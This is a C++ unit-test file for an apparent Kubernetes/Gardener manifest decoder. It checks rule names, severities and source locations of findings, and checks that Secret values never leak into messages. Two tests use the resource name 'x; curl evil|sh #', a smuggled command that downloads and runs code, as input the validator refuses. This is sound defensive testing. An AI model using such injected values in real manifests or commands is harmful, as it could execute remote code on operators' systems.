#include "topologies/manifest/documents/manifest_set.h"

#include <filesystem>
#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "results/base/testing/source_file.h"
#include "topologies/document/read/read.h"
#include "topologies/document/syntax/parse.h"
#include "topologies/manifest/testing/shoot_builder.h"

namespace overlane::manifest {

namespace manifest_set_test {

using ::testing::HasSubstr;
using testing::network_yaml;
using ::testing::Not;
using testing::ShootText;

ManifestSet decode_text(const std::string& text) {
  return decode(document::parse(text, "x.yaml"));
}

struct Refused {
  const char* what;
  std::string text;
  const char* rule;
  Severity severity;
  int line;
  int column;
};

const Refused kRefused[] = {
    {"a Secret", "apiVersion: v1\nkind: Secret\ndata: {key: aHVudGVyMg==}\n", "unsupported-kind",
     Severity::Note, 2, 7},
    {"a Network of another project", "apiVersion: config.openshift.io/v1\nkind: Network\n",
     "unsupported-kind", Severity::Note, 2, 7},
    {"a file of ours that is for another command",
     "apiVersion: overlane.dev/v1alpha1\nkind: RoutingDomains\n", "unsupported-kind",
     Severity::Note, 2, 7},
    {"a misspelt file of ours", "apiVersion: overlane.dev/v1alpha1\nkind: RoutingDomain\n",
     "unsupported-kind", Severity::Warning, 2, 7},
    {"a Shoot of 2017", "apiVersion: garden.sapcloud.io/v1alpha1\nkind: Shoot\n",
     "unsupported-api-version", Severity::Error, 1, 13},
    {"a Shoot without apiVersion", "kind: Shoot\n", "unsupported-api-version", Severity::Error, 1,
     1},
    {"an old embedded shoot",
     "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Cluster\nmetadata: {name: c}\n"
     "spec:\n  shoot:\n    apiVersion: garden.sapcloud.io/v1alpha1\n    kind: Shoot\n",
     "unsupported-api-version", Severity::Error, 6, 17},
    {"a document without kind", "spec:\n  type: calico\n", "unsupported-fragment", Severity::Error,
     1, 1},
    {"a text file", "just some words\n", "unsupported-fragment", Severity::Error, 1, 1},
    {"a patch of a Shoot",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
     "  networking:\n    pods: 10.0.0.0/8\n",
     "unsupported-fragment", Severity::Error, 6, 5},
    {"a ManagedSeedSet without a shootTemplate",
     "apiVersion: seedmanagement.gardener.cloud/v1alpha1\nkind: ManagedSeedSet\n",
     "unsupported-fragment", Severity::Error, 1, 1},
    {"a Shoot with a misspelt networking",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
     "  provider: {type: aws}\n  networkng: {type: calico}\n",
     "unsupported-fragment", Severity::Error, 6, 3},
    {"a Shoot with a misspelt network type",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
     "  networking: {tpye: calico}\n",
     "unsupported-fragment", Severity::Error, 5, 16},
    {"a Network of an empty type",
     "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Network\nmetadata: {name: a}\n"
     "spec: {type: '', podCIDR: 10.0.0.0/8, serviceCIDR: 11.0.0.0/8}\n",
     "bad-value", Severity::Error, 4, 14},
    {"a Cluster with a partial shoot",
     "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Cluster\nmetadata: {name: c}\n"
     "spec:\n  shoot:\n    spec: {networking: {pods: 10.0.0.0/8}}\n",
     "unsupported-fragment", Severity::Error, 6, 24},
    {"a placeholder for the plugin", ShootText{.type = "<some-type>"}.yaml(), "placeholder",
     Severity::Error, 8, 11},
    {"a placeholder for the provider", ShootText{.provider = "<some-provider>"}.yaml(),
     "placeholder", Severity::Error, 6, 11},
    {"a placeholder instead of a mapping", ShootText{.infrastructure = "<some-config>"}.yaml(),
     "placeholder", Severity::Error, 7, 27},
    {"a shell variable", ShootText{.networking = "pods: ${PODS}"}.yaml(), "template",
     Severity::Error, 9, 11},
    {"a shell variable without braces", ShootText{.networking = "pods: $POD_CIDR"}.yaml(),
     "template", Severity::Error, 9, 11},
    {"a quoted template", ShootText{.networking = "pods: \"{{ .Values.pods }}\""}.yaml(),
     "template", Severity::Error, 9, 11},
    {"an ellipsis as value", ShootText{.networking = "pods: ..."}.yaml(), "elision",
     Severity::Error, 9, 11},
    {"host bits", ShootText{.networking = "pods: 10.0.0.5/16"}.yaml(), "not-admitted",
     Severity::Error, 9, 11},
    {"no CIDR", ShootText{.networking = "nodes: banana"}.yaml(), "not-admitted", Severity::Error, 9,
     12},
    {"an MTU beyond GCP's",
     ShootText{.provider = "gcp", .infrastructure = "{networks: {mtu: 9000}}"}.yaml(),
     "not-admitted", Severity::Error, 7, 44},
    {"no pods at all", ShootText{.kubernetes = "{kubelet: {maxPods: 0}}"}.yaml(), "not-admitted",
     Severity::Error, 9, 35},
    {"an IP family twice", ShootText{.networking = "ipFamilies: [IPv4, IPv4]"}.yaml(),
     "not-admitted", Severity::Error, 9, 24},
    {"an unknown kube-proxy mode", ShootText{.kubernetes = "{kubeProxy: {mode: iptables}}"}.yaml(),
     "not-admitted", Severity::Error, 9, 34},
    {"a Shoot without a name",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
     "spec: {networking: {type: calico}}\n",
     "unsupported-fragment", Severity::Error, 1, 1},
    {"a Shoot whose name is a number",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: 5}\n"
     "spec: {networking: {type: calico}}\n",
     "unsupported-fragment", Severity::Error, 3, 18},
    {"a name on two lines",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: \"a\\nb\"}\n"
     "spec: {networking: {type: calico}}\n",
     "invalid-name", Severity::Error, 3, 18},
    {"a name that a shell would run",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
     "metadata: {name: \"x; curl evil|sh #\"}\nspec: {networking: {type: calico}}\n",
     "invalid-name", Severity::Error, 3, 18},
    {"a name in capitals",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: Prod}\n"
     "spec: {networking: {type: calico}}\n",
     "invalid-name", Severity::Error, 3, 18},
    {"a namespace with a dot",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
     "metadata: {name: a, namespace: garden.dev}\nspec: {networking: {type: calico}}\n",
     "invalid-name", Severity::Error, 3, 32},
    {"a Seed whose name ends with a hyphen",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Seed\nmetadata: {name: a-}\n", "invalid-name",
     Severity::Error, 3, 18},
    {"a variable for the name",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: $NAME}\n"
     "spec: {networking: {type: calico}}\n",
     "template", Severity::Error, 3, 18},
    {"a list of parts in JSON", "[{\"spec\": {}}, {\"spec\": {}}]", "unsupported-fragment",
     Severity::Error, 1, 1},
    {"a List without items", "apiVersion: v1\nkind: List\nitems: []\n", "empty-list",
     Severity::Note, 3, 8},
    {"a ShootList without items",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: ShootList\nitems: []\n", "empty-list",
     Severity::Note, 3, 8},
    {"a left-out status", ShootText{.status = "{lastOperation: ...}"}.yaml(), "elision",
     Severity::Error, 9, 25},
    {"a left-out list", ShootText{.status = "{conditions: [...]}"}.yaml(), "elision",
     Severity::Error, 9, 23},
    {"an ellipsis of one character", ShootText{.networking = "pods: \u2026"}.yaml(), "elision",
     Severity::Error, 9, 11},
    {"a template where nobody reads", ShootText{.status = "\n  x: a {{ .Values.x }}"}.yaml(),
     "template", Severity::Error, 10, 6},
    {"a placeholder in the namespace",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
     "metadata: {name: a, namespace: garden-<project>}\nspec: {networking: {type: calico}}\n",
     "placeholder", Severity::Error, 3, 32},
    {"a placeholder for the uid",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
     "metadata: {name: a, uid: <uid>}\nspec: {networking: {type: calico}}\n",
     "placeholder", Severity::Error, 3, 26},
    {"more workers than an int32 holds",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
     "  networking: {type: calico}\n"
     "  provider: {type: aws, workers: [{minimum: 1, maximum: 2147483648}]}\n",
     "not-admitted", Severity::Error, 6, 57},
    {"no worker in the list of workers",
     "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
     "  networking: {type: calico}\n  provider: {type: aws, workers: [~]}\n",
     "not-admitted", Severity::Error, 6, 35},
    {"a Cluster that embeds something else",
     "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Cluster\nmetadata: {name: c}\n"
     "spec:\n  shoot:\n    kind: Seed\n",
     "unsupported-fragment", Severity::Error, 6, 11},
    {"a Network without podCIDR",
     "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Network\nspec:\n  type: calico\n"
     "  serviceCIDR: 10.96.0.0/16\n",
     "not-admitted", Severity::Error, 4, 3},
};

TEST(ManifestSet, NamesTheKeyThatIsMisspelt) {
  const ManifestSet set = decode_text(
      "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\nspec:\n"
      "  provider: {type: aws}\n  networkng: {type: calico}\n");
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].message,
            "a: only a part of a shoot: it has no spec.networking.type, but spec.networkng");
  EXPECT_EQ(set.findings[0].hint, "did you mean networking?");
}

TEST(ManifestSet, SaysHowToWriteARangeWithoutHostBits) {
  for (const auto& [range, hint] :
       {std::pair{"100.96.0.1/11", "write 100.96.0.0/11"},
        std::pair{"'fd00::1/64'", "write fd00::/64"},
        std::pair{"100.96.0.1", "write a network like 10.250.0.0/16"},
        std::pair{"100.96.0.1/33", "write a network like 10.250.0.0/16"}}) {
    const ManifestSet set =
        decode(document::parse(ShootText{.networking = std::string("pods: ") + range}.yaml(), "x"),
               Detail::All);
    ASSERT_FALSE(set.findings.empty()) << range;
    EXPECT_EQ(set.findings[0].hint, hint);
  }
}

TEST(ManifestSet, StatesTheLimitsOfAWorkerPool) {
  const ManifestSet set = decode(
      document::parse("apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\n"
                      "spec:\n  networking: {type: calico}\n"
                      "  provider: {type: aws, workers: [{minimum: 3, maximum: 2}]}\n",
                      "x"),
      Detail::All);
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].message,
            "a: spec.provider.workers[0]: minimum is 3 and maximum is 2; minimum must be at least "
            "0 and at most maximum");
}

TEST(ManifestSet, AQuotedTextThatNobodyReadsMayHoldATemplate) {
  const ManifestSet set = decode_text(ShootText{.status = "{x: \"{{ .Values.x }}\"}"}.yaml());
  EXPECT_EQ(set.clusters.size(), 1u);
  EXPECT_TRUE(set.findings.empty());
}

TEST(ManifestSet, AWorkerlessShootIsNoError) {
  const ManifestSet set = decode_text(
      "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
      "metadata: {name: a, namespace: b}\nspec: {provider: {type: aws}}\n");
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].severity, Severity::Note);
}

TEST(ManifestSet, AShootOfAnUnknownGroupIsAnError) {
  const ManifestSet set =
      decode_text("apiVersion: core.gardner.cloud/v1beta1\nkind: Shoot\nmetadata: {name: a}\n");
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].rule, "unsupported-api-version");
}

TEST(ManifestSet, EveryUnusedDocumentHasExactlyOneFinding) {
  for (const Refused& row : kRefused) {
    SCOPED_TRACE(row.what);
    const ManifestSet set = decode_text(row.text);
    EXPECT_TRUE(set.clusters.empty());
    ASSERT_EQ(set.findings.size(), 1u);
    const Finding& finding = set.findings[0];
    EXPECT_EQ(finding.rule, row.rule) << finding.to_string();
    EXPECT_EQ(finding.severity, row.severity);
    EXPECT_EQ(finding.place, (SourceLocation{"x.yaml", row.line, row.column}))
        << finding.to_string();
    EXPECT_THAT(finding.to_string(), Not(HasSubstr("aHVudGVyMg")));
  }
}

TEST(ManifestSet, ARefusalLeadsWithTheObjectCountsTheRestAndNamesItsRule) {
  const ManifestSet set =
      decode_text(ShootText{.networking = "pods: 10.0.0.5/16\n    nodes: banana"}.yaml());
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_TRUE(set.clusters.empty());
  EXPECT_EQ(set.findings[0].rule, "not-admitted");
  EXPECT_TRUE(set.findings[0].message.starts_with("garden-dev/one: spec.networking.pods"))
      << set.findings[0].message;
  EXPECT_TRUE(set.findings[0].message.ends_with("(and 1 more)")) << set.findings[0].message;
  EXPECT_THAT(set.findings[0].hint, HasSubstr("(rule invalid-cidr)"));
}

TEST(ManifestSet, InDetailEveryFindingHasItsOwnRule) {
  const std::string text = ShootText{.networking = "pods: 10.0.0.5/16\n    nodes: banana"}.yaml();
  const ManifestSet set = decode(document::parse(text, "x.yaml"), Detail::All);
  ASSERT_EQ(set.findings.size(), 2u);
  EXPECT_EQ(set.clusters.size(), 1u);
  for (const Finding& finding : set.findings)
    EXPECT_EQ(finding.rule, "invalid-cidr");
}

TEST(ManifestSet, OfRefusedFamiliesNoRangeIsJudged) {
  const std::string network =
      "apiVersion: extensions.gardener.cloud/v1alpha1\nkind: Network\nmetadata: {name: a}\n"
      "spec: {type: calico, podCIDR: 'fd00::/48', serviceCIDR: banana, ipFamilies: [IPv5]}\n";
  const std::string shoot =
      ShootText{.networking = "pods: 10.0.0.5/16\n    ipFamilies: [IPv4, IPv4]"}.yaml();
  for (const std::string& text : {network, shoot}) {
    const ManifestSet set = decode(document::parse(text, "x.yaml"), Detail::All);
    ASSERT_EQ(set.findings.size(), 1u) << text;
    EXPECT_THAT(set.findings[0].path, HasSubstr("ipFamilies"));
    ASSERT_EQ(set.clusters.size(), 1u);
    EXPECT_FALSE(set.clusters[0].pods);
  }
}

TEST(ManifestSet, ItemsOfAListAreObjectsOfTheirOwn) {
  const ManifestSet set = decode_text(
      "apiVersion: v1\nkind: List\nitems:\n"
      "- apiVersion: core.gardener.cloud/v1beta1\n  kind: Shoot\n  metadata: {name: a, uid: u}\n"
      "  spec: {provider: {type: aws}, networking: {type: calico}}\n"
      "- apiVersion: v1\n  kind: ConfigMap\n");
  ASSERT_EQ(set.clusters.size(), 1u);
  EXPECT_TRUE(set.clusters[0].live);
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].rule, "unsupported-kind");
}

TEST(ManifestSet, ArraysAndListsWithoutAKindAreRead) {
  const std::string shoot =
      "{\"apiVersion\": \"core.gardener.cloud/v1beta1\", \"kind\": \"Shoot\", \"metadata\": "
      "{\"name\": \"a\"}, \"spec\": {\"provider\": {\"type\": \"aws\"}, \"networking\": {\"type\": "
      "\"calico\"}}}";
  std::string other = shoot;
  other.replace(other.find("\"a\""), 3, "\"b\"");
  for (const std::string& text :
       {"[" + shoot + ", " + other + "]", "{\"items\": [" + shoot + ", " + other + "]}",
        "items:\n- " + shoot + "\n- " + other + "\n", "- " + shoot + "\n- " + other + "\n"}) {
    const ManifestSet set = decode_text(text);
    EXPECT_EQ(set.clusters.size(), 2u) << text;
    EXPECT_TRUE(set.findings.empty()) << text;
  }
}

TEST(ManifestSet, NodesHintAtLive) {
  const ManifestSet set = decode_text("apiVersion: v1\nkind: Node\nmetadata: {name: n}\n");
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_EQ(set.findings[0].severity, Severity::Note);
  EXPECT_THAT(set.findings[0].hint, HasSubstr("check --live"));
}

TEST(ManifestSet, AnInvalidNameIsShownOnOneLine) {
  const ManifestSet set = decode_text(
      "apiVersion: core.gardener.cloud/v1beta1\nkind: Shoot\n"
      "metadata: {name: \"x; curl evil|sh #\"}\nspec: {networking: {type: calico}}\n");
  ASSERT_EQ(set.findings.size(), 1u);
  EXPECT_THAT(set.findings[0].message,
              HasSubstr("metadata.name \"x; curl evil|sh #\" is not admitted by Kubernetes"));
}

struct Warned {
  const char* what;
  std::string text;
  const char* rule;
};

TEST(ManifestSet, UsedDocumentsMayWarn) {
  std::string renamed = network_yaml("calico", "");
  renamed.replace(renamed.find("podCIDR"), 7, "clusterCIDR");
  const Warned rows[] = {
      {"clusterCIDR", renamed, "deprecated-field"},
      {"podCIDR in a Shoot", ShootText{.networking = "podCIDR: 10.0.0.0/8"}.yaml(),
       "unknown-field"},
      {"no provider", ShootText{.provider = ""}.yaml(), "unknown-provider"},
  };
  for (const Warned& row : rows) {
    SCOPED_TRACE(row.what);
    const ManifestSet set = decode_text(row.text);
    EXPECT_EQ(set.clusters.size(), 1u);
    ASSERT_EQ(set.findings.size(), 1u);
    EXPECT_EQ(set.findings[0].rule, row.rule);
    EXPECT_EQ(set.findings[0].severity, Severity::Warning);
  }
}

TEST(ManifestSet, EveryExampleManifestIsUsed) {
  const std::filesystem::path folder =
      std::filesystem::path(source_file("")) / "topologies/library/manifests";
  std::size_t files = 0;
  for (const auto& entry : std::filesystem::directory_iterator(folder)) {
    SCOPED_TRACE(entry.path().string());
    const auto stream = document::read(entry.path().string());
    ASSERT_TRUE(stream);
    const ManifestSet set = decode(*stream);
    EXPECT_EQ(set.clusters.size(), 1u);
    EXPECT_FALSE(any_at_or_above(set.findings, Severity::Error));
    ++files;
  }
  EXPECT_GE(files, 10u);
}

TEST(ManifestSet, AMisspeltKindOfGardenersIsAWarningWithAHint) {
  const std::pair<const char*, const char*> rows[] = {
      {"shoot", "core.gardener.cloud/v1beta1"},
      {"SHOOT", ""},
      {"Shot", "core.gardener.cloud/v1beta1"},
      {"Netwrok", "extensions.gardener.cloud/v1alpha1"},
  };
  for (const auto& [kind, version] : rows) {
    SCOPED_TRACE(kind);
    const auto set = decode_text("apiVersion: \"" + std::string(version) + "\"\nkind: " + kind +
                                 "\nmetadata: {name: one}\n");
    ASSERT_EQ(set.findings.size(), 1u);
    EXPECT_EQ(set.findings[0].rule, "unsupported-kind");
    EXPECT_EQ(set.findings[0].severity, Severity::Warning);
    EXPECT_TRUE(set.findings[0].hint == "did you mean Shoot?" ||
                set.findings[0].hint == "did you mean Network?")
        << set.findings[0].hint;
  }
  const auto foreign = decode_text(
      "apiVersion: core.gardener.cloud/v1beta1\nkind: Project\n---\napiVersion: v1\nkind: shot\n");
  ASSERT_EQ(foreign.findings.size(), 2u);
  for (const Finding& finding : foreign.findings)
    EXPECT_EQ(finding.severity, Severity::Note);
}

}  // namespace manifest_set_test

namespace secrets_test {

using testing::cluster_yaml;
using ::testing::HasSubstr;
using ::testing::Not;
using testing::ShootText;

constexpr const char* kMarker = "aHVudGVyMg";

struct Row {
  const char* what;
  std::string text;
};

TEST(Secrets, AreNeverShown) {
  const std::string head = "apiVersion: v1\nkind: Secret\nmetadata: {name: s, namespace: n}\n";
  const Row rows[] = {
      {"a Secret", head + "data: {key: aHVudGVyMg==}\n"},
      {"a Secret that is no YAML", head + "data: {key: aHVudGVyMg==\n"},
      {"a Secret with a key twice", head + "data: {key: aHVudGVyMg==, key: aHVudGVyMg==}\n"},
      {"a Secret with a telling key twice", head + "data: {aHVudGVyMg: x, aHVudGVyMg: y}\n"},
      {"a Secret in a list with a telling key twice",
       "apiVersion: v1\nkind: List\nitems:\n- kind: \"Secret\"\n  data:\n    aHVudGVyMg: x\n"
       "    aHVudGVyMg: y\n"},
      {"a Secret in JSON with a telling key twice",
       R"({"kind" : "Secret", "data": {"aHVudGVyMg": "x", "aHVudGVyMg": "y"}})"},
      {"a SecretList with a telling key twice",
       "apiVersion: v1\nkind: SecretList\nitems:\n- data: {aHVudGVyMg: x, aHVudGVyMg: y}\n"},
      {"a Secret in JSON",
       R"({"apiVersion": "v1", "kind": "Secret", "data": {"k": "aHVudGVyMg"}})"},
      {"a Secret in broken JSON",
       R"({"apiVersion": "v1", "kind": "Secret", "data": {"k": "aHVudGVyMg})"},
      {"a template in a Secret", head + "stringData:\n  key: aHVudGVyMg {{ .x }}\n"},
      {"an elision in a Secret", head + "data:\n  key: aHVudGVyMg\n  ...\n"},
      {"a list of Secrets", "apiVersion: v1\nkind: SecretList\nitems:\n- data: {k: aHVudGVyMg}\n"},
      {"data without a kind", "data: {key: aHVudGVyMg}\n"},
      {"data in the place of a shoot",
       cluster_yaml("{shoot: {kind: Secret, data: {key: aHVudGVyMg}}}")},
      {"a shoot with foreign fields", ShootText{.spec = "password: aHVudGVyMg"}.yaml()},
      {"a text with a placeholder", ShootText{.spec = "region: aHVudGVyMg <x>"}.yaml()},
      {"a mapping for a text", ShootText{.spec = "region: {a: aHVudGVyMg}"}.yaml()},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.what);
    for (const Detail detail : {Detail::Summary, Detail::All}) {
      const ManifestSet set = decode(document::parse(row.text, "x.yaml"), detail);
      EXPECT_FALSE(set.findings.empty());
      for (const Finding& finding : set.findings)
        EXPECT_THAT(finding.to_string(), Not(HasSubstr(kMarker)));
    }
  }
}

}  // namespace secrets_test

}  // namespace overlane::manifest
